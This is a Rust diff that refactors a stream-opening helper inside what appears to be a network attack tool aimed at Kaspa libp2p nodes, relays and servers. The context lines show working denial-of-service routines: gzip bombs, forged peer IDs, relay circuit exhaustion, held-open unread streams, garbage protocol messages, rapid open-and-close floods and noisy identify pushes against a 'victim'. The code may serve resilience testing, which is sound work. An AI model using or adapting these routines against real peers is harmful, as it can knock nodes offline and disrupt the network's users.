@@ -5,7 +5,7 @@ use std::time::Duration;
 use anyhow::{Result, bail};
 use futures::{AsyncReadExt, AsyncWriteExt};
 use kaspath_transport_libp2p::STREAM_PROTOCOL;
-use libp2p::{PeerId, core::muxing::SubstreamBox, identity::Keypair};
+use libp2p::{PeerId, identity::Keypair};
 use rand::{Rng, RngCore};
 use tokio::{
     io::{AsyncReadExt as _, AsyncWriteExt as _},
@@ -79,7 +79,7 @@ impl Attack {
             AttackKind::GzipBombs => self.throw_bomb(n, victim).await,
             AttackKind::ForgedIds => {
                 let connection = connect(n, victim).await?;
-                let mut stream = speak(&connection, wire::HOP).await?;
+                let mut stream = connection.speak(wire::HOP).await?;
                 wire::ask(&mut stream, &wire::connect(&wire::forged_id(n))).await?;
                 connection.ended().await;
                 Ok(())
@@ -99,7 +99,7 @@ impl Attack {
         let connection = connect(n, &self.relay).await?;
         let mut held = Vec::new();
         for _ in 0..CIRCUITS {
-            let mut stream = speak(&connection, wire::HOP).await?;
+            let mut stream = connection.speak(wire::HOP).await?;
             if wire::ask(&mut stream, &wire::connect(&to.to_bytes())).await?.status == Some(wire::OK) {
                 held.push(stream);
             }
@@ -115,7 +115,7 @@ impl Attack {
             return hold(stream).await;
         }
         let connection = connect(n / 2, victim).await?;
-        let mut stream = speak(&connection, data_protocol(victim)).await?;
+        let mut stream = connection.speak(data_protocol(victim)).await?;
         stream.write_all(&self.bomb).await?;
         stream.flush().await?;
         let _ = stream.read_to_end(&mut Vec::new()).await;
@@ -135,12 +135,6 @@ fn data_protocol(victim: &Victim) -> &'static str {
 /// A new identity's connection, every other one over QUIC.
 async fn connect(n: u64, victim: &Victim) -> Result<Connection> {
     Connection::open(&Keypair::generate_ed25519(), address(victim.ip, is_odd(n))).await
-}
-
-pub(super) async fn speak(connection: &Connection, protocol: &str) -> Result<SubstreamBox> {
-    let mut stream = connection.stream().await?;
-    wire::propose(&mut stream, protocol).await?;
-    Ok(stream)
 }
 
 /// Servers are also attacked where plain Kaspa peers come.
@@ -176,13 +170,13 @@ async fn read_nothing(n: u64, victim: &Victim) -> Result<()> {
     let connection = connect(n, victim).await?;
     let mut held = Vec::new();
     for _ in 0..8 {
-        let mut stream = speak(&connection, wire::PING).await?;
+        let mut stream = connection.speak(wire::PING).await?;
         stream.write_all(&[7; 32 * 64]).await?;
         stream.flush().await?;
         held.push(stream);
     }
     if victim.kind != TargetKind::Relay {
-        let mut stream = speak(&connection, data_protocol(victim)).await?;
+        let mut stream = connection.speak(data_protocol(victim)).await?;
         let pings: Vec<u8> = (0..2_000).flat_map(bomb::ping).collect();
         stream.write_all(&[bomb::preface(), pings].concat()).await?;
         stream.flush().await?;
@@ -218,7 +212,7 @@ async fn garbage(n: u64, victim: &Victim) -> Result<()> {
         _ => {
             let connection = connect(n / 4, victim).await?;
             for protocol in [data_protocol(victim), wire::PING, wire::HOP, wire::IDENTIFY_PUSH] {
-                if let Ok(mut stream) = speak(&connection, protocol).await {
+                if let Ok(mut stream) = connection.speak(protocol).await {
                     stream.write_all(&bytes).await?;
                     stream.flush().await?;
                 }
@@ -235,7 +229,7 @@ async fn open_and_close(n: u64, victim: &Victim) -> Result<()> {
         let mut ticks = repeated();
         for _ in 0..MAX_REPEATS {
             ticks.tick().await;
-            drop(speak(&connection, data_protocol(victim)).await?);
+            drop(connection.speak(data_protocol(victim)).await?);
         }
     } else if is_odd(n) {
         drop(tcp(n / 2, victim).await?);
@@ -274,7 +268,7 @@ async fn push(n: u64, victim: &Victim) -> Result<()> {
     let mut ticks = repeated();
     for i in 0..repeats {
         ticks.tick().await;
-        let mut stream = speak(&connection, wire::IDENTIFY_PUSH).await?;
+        let mut stream = connection.speak(wire::IDENTIFY_PUSH).await?;
         stream.write_all(&wire::noisy_identify(key.public().encode_protobuf(), i as u64)).await?;
         stream.close().await?;
     }
